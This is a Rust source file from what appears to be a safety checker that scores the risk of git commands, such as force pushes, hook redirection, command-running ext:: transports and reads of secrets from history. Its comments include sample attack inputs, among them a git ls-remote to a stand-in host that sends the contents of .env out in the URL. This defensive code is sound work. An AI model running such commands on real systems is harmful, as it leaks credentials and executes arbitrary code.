//! `git`, subcommand by subcommand.

use super::carried::{GitKey, git_config_key, git_value_script};
use super::{Input, Verdict, normalized, split_flags, take_carried};
use crate::Risk;
use crate::Sentence as S;
use crate::paths::FileOp;
use crate::shell::options::{self, Does, Found, GIT_CONFIG, GIT_GLOBALS, Parsed};
use crate::shell::words::Word;

/// `git`: read-only subcommands are Low, changes to the repository Medium, discarding
/// work or publishing High, rewriting a remote's history Critical.
pub(super) fn git(input: &Input<'_>) -> Verdict {
    let mut v = Verdict::new(Risk::Low, "");
    // Global options, from the option table (`options.rs`): the first word that is
    // not one is the subcommand.
    let globals = options::parse_with(&GIT_GLOBALS, input.args);
    for found in &globals.found {
        global_option(&mut v, found, input);
    }
    for other in &globals.unknown {
        v.raise(
            Risk::High,
            S::new("engine-git-unknown-option").text("option", other.as_str()),
        );
    }
    let start = globals.stopped_at.unwrap_or(input.args.len());
    let asks_version = globals
        .found
        .iter()
        .any(|f| matches!(f.opt.short, Some("v" | "h")));
    if asks_version {
        v.raise(Risk::Low, S::new("engine-git-version"));
        return v;
    }
    let args = normalized("git", &input.args[start..]);
    let Some(sub_word) = args.first() else {
        v.raise(Risk::Low, S::new("engine-git-no-subcommand"));
        return v;
    };
    if sub_word.dynamic {
        v.raise(
            Risk::High,
            S::new("engine-git-dynamic-subcommand").text("sub", sub_word.text.as_str()),
        );
        v.opaque = true;
        return v;
    }
    let sub = sub_word.text.as_str();
    take_carried(&mut v, "git", &args);
    let rest = &args[1..];
    let (flags, operands) = split_flags(rest);
    let has = |f: &str| {
        flags
            .iter()
            .any(|x| x == f || x.starts_with(&format!("{f}=")))
    };
    // Files git reads or writes outside its repository: `--output=F` (log, diff,
    // format-patch), `--contents=F` (blame), and `diff --no-index A B`.
    for flag in &flags {
        if let Some(target) = flag.strip_prefix("--output=") {
            v.word(FileOp::Write, &Word::literal(target), input);
        } else if let Some(source) = flag.strip_prefix("--contents=") {
            v.word(FileOp::Read, &Word::literal(source), input);
        }
    }
    // `git diff /dev/null FILE` compares files outside git's index (as
    // `--no-index` does), so both are read.
    if sub == "diff" && (has("--no-index") || operands.iter().any(|o| o.text == "/dev/null")) {
        for operand in &operands {
            v.word(FileOp::Read, operand, input);
        }
    }
    secret_reads(&mut v, sub, &flags, &operands, rest, input);
    transports(&mut v, rest);
    if sub == "clone" {
        clone_settings(&mut v, rest);
    }
    egress(&mut v, sub, &operands);
    let (risk, reason) = if sub == "config" {
        config(&mut v, rest, input)
    } else {
        subcommand(&Sub {
            name: sub,
            flags: &flags,
            operands: &operands,
        })
    };
    v.raise(risk, reason);
    if v.reason.is_empty() {
        v.reason = crate::Sentence::new("engine-runs-git").text("sub", sub);
    }
    v
}

/// A git subcommand, its flags and its operands.
struct Sub<'a> {
    name: &'a str,
    flags: &'a [String],
    operands: &'a [Word],
}

impl Sub<'_> {
    /// Whether the flag is given, alone or with a value (`--flag=VALUE`).
    fn has(&self, f: &str) -> bool {
        self.flags
            .iter()
            .any(|x| x == f || x.starts_with(&format!("{f}=")))
    }

    fn first_operand(&self) -> Option<&str> {
        self.operands.first().map(|w| w.text.as_str())
    }
}

/// The risk of a subcommand other than `config`, and why.
fn subcommand(s: &Sub<'_>) -> (Risk, S) {
    let sub = s.name;
    match sub {
        "status" | "log" | "diff" | "show" | "rev-parse" | "ls-files" | "ls-tree" | "blame"
        | "shortlog" | "describe" | "grep" | "cat-file" | "whatchanged" | "count-objects"
        | "merge-base" | "name-rev" | "for-each-ref" | "show-ref" | "rev-list" | "check-ignore"
        | "var" | "version" | "help" | "annotate" | "show-branch" | "ls-remote" | "range-diff"
        | "diff-tree" | "diff-files" | "diff-index" | "verify-commit" | "verify-tag" | "fsck"
        | "cherry" => reads(s),
        "add" | "commit" | "checkout" | "switch" | "merge" | "rebase" | "cherry-pick"
        | "revert" | "init" | "fetch" | "pull" | "mv" | "restore" | "am" | "apply" | "notes"
        | "gc" | "prune" | "repack" | "bisect" | "sparse-checkout" | "lfs" | "format-patch" => {
            changes(s)
        }
        "reset" => {
            if s.has("--hard") || s.has("--merge") || s.has("--keep") {
                (
                    Risk::High,
                    S::new("engine-git-reset-hard-discards-uncommitted"),
                )
            } else {
                (Risk::Medium, S::new("engine-git-reset-moves-branch"))
            }
        }
        "clean" => {
            if s.has("-n") {
                (Risk::Low, S::new("engine-git-clean-as-dry-run"))
            } else {
                (
                    Risk::High,
                    S::new("engine-git-clean-deletes-untracked-files"),
                )
            }
        }
        "rm" => {
            if s.has("--cached") {
                (Risk::Medium, S::new("engine-git-removes-files-from-index"))
            } else {
                (Risk::High, S::new("engine-git-deletes-tracked-files-rm"))
            }
        }
        "push" => {
            let force_refspec = s.operands.iter().any(|o| o.text.starts_with('+'));
            if s.has("-f")
                || s.has("--force-with-lease")
                || s.has("--force-if-includes")
                || s.has("--mirror")
                || force_refspec
            {
                (
                    Risk::Critical,
                    S::new("engine-git-forcepushes-overwrite-others-history"),
                )
            } else if s.has("-d") || s.operands.iter().any(|o| o.text.starts_with(':')) {
                (Risk::High, S::new("engine-git-deletes-branch-remote"))
            } else if s.has("-n") {
                (Risk::Low, S::new("engine-git-push-as-dry-run"))
            } else {
                (
                    Risk::High,
                    S::new("engine-git-pushes-commits-remote-publishes"),
                )
            }
        }
        "clone" => (
            Risk::High,
            S::new("engine-git-clones-repository-from-network"),
        ),
        "filter-branch" | "filter-repo" | "replace" | "update-ref" | "symbolic-ref" => {
            (Risk::High, S::new("engine-git-rewrites").text("sub", sub))
        }
        // What lists without operands and changes with them, or what Warden does not
        // know.
        _ => lists_or_changes(s).unwrap_or_else(|| {
            (
                Risk::High,
                S::new("engine-git-unknown-subcommand").text("sub", sub),
            )
        }),
    }
}

/// The subcommands that read the repository: Low, unless they write what they print
/// to a file or run a program to show it.
fn reads(s: &Sub<'_>) -> (Risk, S) {
    let sub = s.name;
    if sub == "cat-file" && s.flags.iter().any(|f| f.starts_with("--batch")) {
        (
            Risk::Medium,
            S::new("engine-git-catfile-batch-prints-objects"),
        )
    } else if s.has("--output") || s.has("--ext-diff") {
        (
            Risk::Medium,
            S::new("engine-git-writing-option").text("sub", sub),
        )
    } else {
        (Risk::Low, S::new("engine-git-reads").text("sub", sub))
    }
}

/// The subcommands that list what they manage without operands, and change it with
/// them.
fn lists_or_changes(s: &Sub<'_>) -> Option<(Risk, S)> {
    Some(match s.name {
        "branch" => {
            if s.has("-D") || (s.has("-d") && s.has("-f")) {
                (
                    Risk::High,
                    S::new("engine-git-forcedeletes-branch-lose-commits"),
                )
            } else if s.operands.is_empty()
                || s.has("-l")
                || s.has("--list")
                || s.has("--show-current")
                || s.has("--contains")
            {
                (Risk::Low, S::new("engine-git-lists-branches"))
            } else {
                (
                    Risk::Medium,
                    S::new("engine-git-creates-renames-or-deletes"),
                )
            }
        }
        "tag" => {
            if s.operands.is_empty() || s.has("-l") || s.has("--list") {
                (Risk::Low, S::new("engine-git-lists-tags"))
            } else {
                (Risk::Medium, S::new("engine-git-creates-or-deletes-tag"))
            }
        }
        "remote" => match s.first_operand() {
            None | Some("show" | "get-url") => (Risk::Low, S::new("engine-git-lists-remotes")),
            Some(_) => (Risk::Medium, S::new("engine-git-changes-remotes")),
        },
        "stash" => match s.first_operand() {
            Some("list" | "show") => (Risk::Low, S::new("engine-git-lists-stashes")),
            Some("drop" | "clear") => (Risk::High, S::new("engine-git-drops-stashes-loses-their")),
            _ => (
                Risk::Medium,
                S::new("engine-git-stashes-or-restores-changes"),
            ),
        },
        "worktree" => match s.first_operand() {
            Some("list") => (Risk::Low, S::new("engine-git-lists-worktrees")),
            _ => (Risk::Medium, S::new("engine-git-changes-worktrees")),
        },
        "submodule" => match s.first_operand() {
            None | Some("status" | "summary") => (Risk::Low, S::new("engine-git-lists-submodules")),
            _ => (Risk::Medium, S::new("engine-git-changes-submodules")),
        },
        "reflog" => match s.first_operand() {
            None | Some("show") => (Risk::Low, S::new("engine-git-shows-reflog")),
            _ => (Risk::High, S::new("engine-git-changes-reflog-lose-history")),
        },
        _ => return None,
    })
}

/// The subcommands that change the repository: Medium, or High when they discard
/// work.
fn changes(s: &Sub<'_>) -> (Risk, S) {
    let sub = s.name;
    if sub == "checkout" && s.has("-f")
        || sub == "restore" && s.operands.iter().any(|o| o.text == ".")
        || sub == "checkout" && s.operands.iter().any(|o| o.text == ".")
    {
        (Risk::High, S::new("engine-git-discards").text("sub", sub))
    } else if sub == "commit" && s.has("-n") {
        (
            Risk::Medium,
            S::new("engine-git-commits-without-running-repositorys"),
        )
    } else {
        (Risk::Medium, S::new("engine-git-changes").text("sub", sub))
    }
}

/// Judges one of git's global options.
fn global_option(v: &mut Verdict, found: &Found, input: &Input<'_>) {
    let name = found
        .opt
        .long
        .first()
        .copied()
        .or(found.opt.short)
        .unwrap_or("");
    let Some(value) = &found.value else {
        return;
    };
    match name {
        // `git -c KEY=VALUE`: judged by the key.
        "c" if value.dynamic => {
            v.opaque = true;
            v.raise(Risk::High, S::new("engine-git-dynamic-configuration"));
        }
        "c" => {
            let (key, val) = value.text.split_once('=').unwrap_or((&value.text, "true"));
            config_value(v, key, val, "run");
        }
        // `--config-env=KEY=VARIABLE`: the value is a variable's, which Warden does
        // not see here.
        "config-env" => {
            let key = value.text.split_once('=').map_or("", |(k, _)| k);
            if value.dynamic || git_config_key(key) == GitKey::Runs {
                v.opaque = true;
                v.raise(
                    Risk::High,
                    S::new("engine-git-config-env-command").text("key", key),
                );
            } else if git_config_key(key) == GitKey::Moves
                || key.eq_ignore_ascii_case("core.hooksPath")
            {
                v.raise(
                    Risk::High,
                    S::new("engine-git-config-env-moves").text("key", key),
                );
            }
        }
        "exec-path" => v.raise(
            Risk::High,
            S::new("engine-git-exec-path").text("path", value.text.as_str()),
        ),
        "C" => v.word(FileOp::Read, value, input),
        // Another repository's configuration and hooks run programs
        // (`core.fsmonitor`, `core.pager`): outside the workspace, as any unknown
        // program would.
        _ if found.opt.does == Does::Reads => {
            v.raise(Risk::Medium, S::new("engine-git-other-repository"));
            v.word(FileOp::Read, value, input);
            if value.dynamic || !input.resolve(&value.text).inside_workspace {
                v.raise(
                    Risk::High,
                    S::new("engine-git-other-repository-outside").text("path", value.text.as_str()),
                );
            }
        }
        _ => {}
    }
}

/// The files git's reading subcommands print: `REV:PATH` and `:PATH` blobs (`git show
/// HEAD:.env`, `git cat-file -p HEAD:.env`), the paths after `--` of `log`, `diff`,
/// `show` and `blame`, and every file below the folder for `git grep --no-index` or
/// `--untracked` (which read files git does not track, `.env` among them). Each is
/// judged as a read of the file in the work tree, so a secret is as sensitive in
/// history as on disk.
fn secret_reads(
    v: &mut Verdict,
    sub: &str,
    flags: &[String],
    operands: &[Word],
    rest: &[Word],
    input: &Input<'_>,
) {
    if !matches!(
        sub,
        "show" | "cat-file" | "log" | "diff" | "blame" | "grep" | "archive" | "whatchanged"
    ) {
        return;
    }
    for operand in operands {
        // `:/TEXT` names the newest commit whose message matches TEXT, not a file.
        if operand.dynamic || operand.text.contains("://") || operand.text.starts_with(":/") {
            continue;
        }
        if let Some((_, path)) = operand.text.split_once(':')
            && !path.is_empty()
        {
            v.word(FileOp::Read, &Word::literal(path), input);
        }
    }
    if let Some(dashdash) = rest.iter().position(|w| w.text == "--") {
        for path in &rest[dashdash + 1..] {
            v.word(FileOp::Read, path, input);
        }
    } else if matches!(sub, "log" | "diff" | "show" | "whatchanged") {
        // Without `--`, git takes an operand that names a file as a path (`git log
        // -p .env` prints its history): each is judged as a read of that file. A
        // revision read as a path names nothing sensitive.
        for operand in operands.iter().filter(|o| !o.text.contains(':')) {
            v.word(FileOp::Read, operand, input);
        }
    } else if sub == "blame"
        && let Some(path) = operands.last()
    {
        v.word(FileOp::Read, path, input);
    }
    if sub == "grep"
        && flags
            .iter()
            .any(|f| f == "--no-index" || f == "--untracked")
    {
        super::files::sweep(v, "git grep", &[], &[], &[], input);
    }
}

/// What a `git config` command does, in either grammar.
struct ConfigIntent<'a> {
    /// The verb of the newer grammar (`git config get KEY`), if given.
    verb: Option<&'a str>,
    /// The operands after the verb: the key, and its value.
    operands: &'a [Word],
    changes: bool,
    listing: bool,
    reading: bool,
    editing: bool,
}

impl<'a> ConfigIntent<'a> {
    fn of(parsed: &'a Parsed) -> ConfigIntent<'a> {
        let has = |long: &str| parsed.given(long);
        let mut operands: &[Word] = &parsed.operands;
        let verb = operands
            .first()
            .filter(|w| !w.dynamic)
            .map(|w| w.text.as_str())
            .filter(|t| {
                matches!(
                    *t,
                    "list" | "get" | "set" | "unset" | "rename-section" | "remove-section" | "edit"
                )
            });
        if verb.is_some() {
            operands = &operands[1..];
        }
        let changes = matches!(
            verb,
            Some("set" | "unset" | "rename-section" | "remove-section")
        ) || [
            "add",
            "replace-all",
            "unset",
            "unset-all",
            "rename-section",
            "remove-section",
        ]
        .iter()
        .any(|l| has(l));
        let listing = verb == Some("list")
            || ["list", "get-regexp", "show-origin", "show-scope"]
                .iter()
                .any(|l| has(l));
        let reading = !changes
            && (verb == Some("get")
                || [
                    "get",
                    "get-all",
                    "get-urlmatch",
                    "get-color",
                    "get-colorbool",
                ]
                .iter()
                .any(|l| has(l))
                || (verb.is_none() && operands.len() == 1));
        let editing = verb == Some("edit") || has("edit");
        ConfigIntent {
            verb,
            operands,
            changes,
            listing,
            reading,
            editing,
        }
    }
}

/// `git config`, in both grammars (`git config --get KEY`, `git config get KEY`), its
/// options read from the option table (`options.rs`): reading a key is Low, printing
/// keys that can hold tokens Medium, setting a key that runs a program High with the
/// program judged as a script, and `-f FILE` is judged as a read or a write of FILE.
fn config(v: &mut Verdict, rest: &[Word], input: &Input<'_>) -> (Risk, S) {
    let parsed = options::parse_with(&GIT_CONFIG, rest);
    let has = |long: &str| parsed.given(long);
    let ConfigIntent {
        verb,
        operands,
        changes,
        listing,
        reading,
        editing,
    } = ConfigIntent::of(&parsed);
    if let Some(file) = parsed.value_of("file") {
        let op = if listing || reading {
            FileOp::Read
        } else {
            FileOp::Write
        };
        v.word(op, file, input);
    }
    let token_key = operands
        .first()
        .is_some_and(|k| k.dynamic || holds_token(&k.text.to_ascii_lowercase()));
    if !changes && (listing || (reading && token_key)) {
        v.secrets = true;
        return (
            Risk::Medium,
            "Prints git configuration that can hold tokens (in remote URLs, credential \
             helpers and extra headers)."
                .into(),
        );
    }
    if editing {
        return (
            Risk::Medium,
            S::new("engine-git-opens-configuration-an-editor"),
        );
    }
    if listing || reading {
        return (Risk::Low, S::new("engine-git-reads-configuration"));
    }
    let unsets = matches!(verb, Some("unset" | "remove-section"))
        || ["unset", "unset-all", "remove-section"]
            .iter()
            .any(|l| has(l));
    if unsets && !has("global") && !has("system") {
        return (Risk::Medium, S::new("engine-git-removes-configuration"));
    }
    let key = operands.first();
    if let Some(key) = key.filter(|k| k.dynamic || git_config_key(&k.text) != GitKey::Inert) {
        // The value runs later, whenever git needs it: the option is High, and the
        // command it names is judged too.
        if let Some(value) = operands.get(1) {
            if value.dynamic || key.dynamic {
                v.opaque = true;
            } else {
                config_value(v, &key.text, &value.text, "set");
            }
        }
        return (
            Risk::High,
            S::new("engine-git-sets-relocating-option").text("option", key.text.as_str()),
        );
    }
    if let (Some(key), Some(value)) = (key, operands.get(1)) {
        config_value(v, &key.text, &value.text, "set");
    }
    if has("global") || has("system") {
        (Risk::High, S::new("engine-git-changes-users-or-systems"))
    } else {
        (
            Risk::Medium,
            S::new("engine-git-changes-repositorys-configuration"),
        )
    }
}

/// `git clone -c KEY=VALUE` (`--config`) writes the setting into the new repository
/// before its checkout, which runs what it names; `--template=DIR` copies DIR's hooks
/// into it, which run on the checkout.
fn clone_settings(v: &mut Verdict, rest: &[Word]) {
    let mut i = 0;
    while let Some(word) = rest.get(i) {
        i += 1;
        let t = word.text.as_str();
        let setting = match t {
            "-c" | "--config" => rest.get(i).inspect(|_| i += 1).cloned(),
            _ => t.strip_prefix("--config=").map(Word::literal),
        };
        if let Some(setting) = setting {
            if setting.dynamic {
                v.opaque = true;
                v.raise(Risk::High, S::new("engine-git-clone-dynamic-configuration"));
            } else {
                let (key, value) = setting
                    .text
                    .split_once('=')
                    .unwrap_or((&setting.text, "true"));
                config_value(v, key, value, "clone");
            }
        } else if t == "--template" || t.starts_with("--template=") {
            v.raise(Risk::High, S::new("engine-git-clone-template"));
        }
    }
}

/// Remote URLs of the form `TRANSPORT::ADDRESS` make git run the program
/// `git-remote-TRANSPORT`; the `ext::` transport runs the command written in the
/// address (`git ls-remote 'ext::sh -c touch% p'` runs `sh -c 'touch p'` when
/// `protocol.ext.allow` lets it). Every operand and option value is looked at: the
/// command is judged as a script, and any such URL is High.
fn transports(v: &mut Verdict, rest: &[Word]) {
    for word in rest {
        if word.dynamic {
            continue;
        }
        let value = word
            .text
            .strip_prefix("--")
            .and_then(|t| t.split_once('=').map(|(_, v)| v))
            .unwrap_or(&word.text);
        let Some((transport, address)) = remote_helper(value) else {
            continue;
        };
        if transport.eq_ignore_ascii_case("ext") {
            v.raise(
                Risk::High,
                S::new("engine-git-ext-transport").text("command", address),
            );
            v.scripts.push(ext_command(address));
        } else {
            v.raise(
                Risk::High,
                S::new("engine-git-transport").text("transport", transport),
            );
        }
    }
}

/// `TRANSPORT::ADDRESS` (git's remote-helper syntax): the transport and the address.
fn remote_helper(url: &str) -> Option<(&str, &str)> {
    let (transport, address) = url.split_once("::")?;
    let named = transport.starts_with(|c: char| c.is_ascii_alphabetic())
        && transport
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-'));
    named.then_some((transport, address))
}

/// The command of an `ext::` address as a shell script: git splits it at blanks,
/// `% ` is a blank inside a word, `%%` a percent sign, and `%s`/`%S` the service git
/// runs (`git-upload-pack`); `%G` and `%V` add nothing to the command.
fn ext_command(address: &str) -> String {
    let mut words: Vec<String> = vec![String::new()];
    let mut chars = address.chars();
    while let Some(c) = chars.next() {
        let last = words.len() - 1;
        match c {
            '%' => match chars.next() {
                Some(' ') => words[last].push(' '),
                Some('%') => words[last].push('%'),
                Some('s') => words[last].push_str("upload-pack"),
                Some('S') => words[last].push_str("git-upload-pack"),
                Some('G' | 'V') => {
                    // `%G`/`%V` only pass their value as the next word, to git's
                    // own protocol.
                    let _ = chars.by_ref().take_while(|c| *c != ' ').count();
                }
                Some(other) => {
                    words[last].push('%');
                    words[last].push(other);
                }
                None => words[last].push('%'),
            },
            ' ' => words.push(String::new()),
            _ => words[last].push(c),
        }
    }
    words
        .iter()
        .filter(|w| !w.is_empty())
        .map(|w| super::carried::quote(w))
        .collect::<Vec<_>>()
        .join(" ")
}

/// Git configuration keys whose values can carry a token.
fn holds_token(key: &str) -> bool {
    (key.starts_with("remote.") && (key.ends_with(".url") || key.ends_with(".pushurl")))
        || key.starts_with("credential")
        || key.contains("extraheader")
        || key.starts_with("url.")
}

/// Git subcommands that contact a host: given a URL rather than a configured remote,
/// the host is the command's choice, and the URL itself can carry data out (`git
/// ls-remote https://x.example/$(cat .env)`): High, as any network tool.
fn egress(v: &mut Verdict, sub: &str, operands: &[Word]) {
    if !matches!(
        sub,
        "ls-remote" | "fetch" | "pull" | "push" | "clone" | "archive" | "remote" | "submodule"
    ) {
        return;
    }
    if let Some(url) = operands
        .iter()
        .find(|o| o.dynamic || looks_like_url(&o.text))
    {
        v.raise(
            Risk::High,
            S::new("engine-git-named-host")
                .text("sub", sub)
                .text("url", url.text.as_str()),
        );
    }
}

/// A git URL: `scheme://...`, `user@host:path`, or `host:path` with a dot in the host.
pub(in crate::shell) fn looks_like_url(text: &str) -> bool {
    if text.contains("://") {
        return true;
    }
    match text.split_once(':') {
        Some((host, path)) => {
            !host.is_empty()
                && !path.is_empty()
                && !host.contains('/')
                && (host.contains('@') || host.contains('.'))
        }
        None => false,
    }
}

/// Judges one git configuration `key=value`: a command it runs becomes a script of
/// the verdict, a key that moves configuration or programs is High, any other key
/// runs nothing. `how` is how the setting is given, as the catalog's messages select on
/// it: `run` (`git -c`), `set` (`git config`) or `clone` (`git clone -c`).
fn config_value(v: &mut Verdict, key: &str, value: &str, how: &'static str) {
    // `core.hooksPath` names the folder whose programs git runs on commit, merge,
    // checkout, push...: pointing it anywhere is an execution-config change, as
    // writing `.git/hooks` is. Pointing it at nothing turns the hooks off, as
    // `--no-verify` does.
    if key.eq_ignore_ascii_case("core.hooksPath") {
        if matches!(value.trim(), "" | "/dev/null") {
            v.raise(
                Risk::Medium,
                S::new("engine-git-hooks-off").text("how", how),
            );
        } else {
            v.raise(
                Risk::Critical,
                S::new("engine-git-hooks-path")
                    .text("how", how)
                    .text("value", value),
            );
        }
        return;
    }
    if let Some((transport, address)) = remote_helper(value) {
        v.raise(
            Risk::High,
            S::new("engine-git-option-transport")
                .text("how", how)
                .text("key", key)
                .text("transport", transport),
        );
        if transport.eq_ignore_ascii_case("ext") {
            v.scripts.push(ext_command(address));
        }
    }
    match git_config_key(key) {
        GitKey::Runs => {
            if let Some(script) = git_value_script(key, value) {
                v.raise(
                    Risk::Low,
                    S::new("engine-git-option-command")
                        .text("how", how)
                        .text("key", key),
                );
                v.scripts.push(script);
            }
        }
        GitKey::Moves => v.raise(
            Risk::High,
            S::new("engine-git-option-moves")
                .text("how", how)
                .text("key", key),
        ),
        GitKey::Inert => {}
    }
}
